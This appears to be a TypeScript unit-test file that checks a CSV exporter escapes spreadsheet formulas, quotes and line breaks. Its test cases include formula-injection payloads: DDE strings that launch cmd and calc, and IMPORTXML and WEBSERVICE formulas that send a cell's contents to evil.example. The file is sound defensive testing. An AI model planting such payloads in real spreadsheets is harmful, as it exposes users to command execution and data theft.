import { expect, test } from 'vitest';
import { csvOf } from './csv.ts';

const lineOf = (...cells: (string | number)[]) => csvOf([], [cells]).split('\r\n')[1];

test('a CSV file starts with a byte order mark and has CRLF line ends, as Excel requires', () => {
  expect(csvOf(['Order', 'Customer'], [[1041, 'सीता झा']])).toBe('\uFEFFOrder,Customer\r\n1041,सीता झा\r\n');
});

test.each([
  ['=1+1', "'=1+1"],
  ['+977 9812345678', "'+977 9812345678"],
  ['-5', "'-5"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\t=1', '"\'\t=1"'],
  ['＝1+1', "'＝1+1"],
  ['＋1', "'＋1"],
  ['－1', "'－1"],
  ['＠SUM(A1)', "'＠SUM(A1)"],
  ['Sita;=1+1', '"Sita;=1+1"'],
  ['Sita\t=1+1', '"Sita\t=1+1"'],
  [' =cmd', "' =cmd"],
  ['=HYPERLINK("x","y")', '"\'=HYPERLINK(""x"",""y"")"'],
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
  ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
  ["@cmd|' /C calc'!A0", "'@cmd|' /C calc'!A0"],
  ['=IMPORTXML("http://evil.example/?"&A1,"//a")', '"\'=IMPORTXML(""http://evil.example/?""&A1,""//a"")"'],
  ['=WEBSERVICE("http://evil.example/"&A1)', '"\'=WEBSERVICE(""http://evil.example/""&A1)"'],
  ['=IMAGE("http://evil.example/")', '"\'=IMAGE(""http://evil.example/"")"'],
  ["=DDE('cmd';'/C calc';'x')", "\"'=DDE('cmd';'/C calc';'x')\""],
  ['==1+1', "'==1+1"],
  ['=-1+1', "'=-1+1"],
  ['\r=1', '"\'\r=1"'],
  ['\n=1', '"\'\n=1"'],
  ['  +1', "'  +1"],
  ['\u00a0=1', "'\u00a0=1"],
  ['\ufeff=1', "'\ufeff=1"],
  ['\u3000＝1', "'\u3000＝1"],
  ['Sita,=1+1', '"Sita,=1+1"'],
  ['"=1+1', '"""=1+1"'],
  ['Sita\n=1+1', '"Sita\n=1+1"'],
])('the text %j is not a formula in a spreadsheet', (text, cell) => {
  expect(lineOf(text)).toBe(cell);
});

test('commas, quotes and line breaks stay inside their cell, and a negative amount stays a number', () => {
  expect(lineOf('Ward 4, "Chowk"', 'two\nlines', -5, 'plain')).toBe(
    '"Ward 4, ""Chowk""","two\nlines",-5,plain',
  );
});
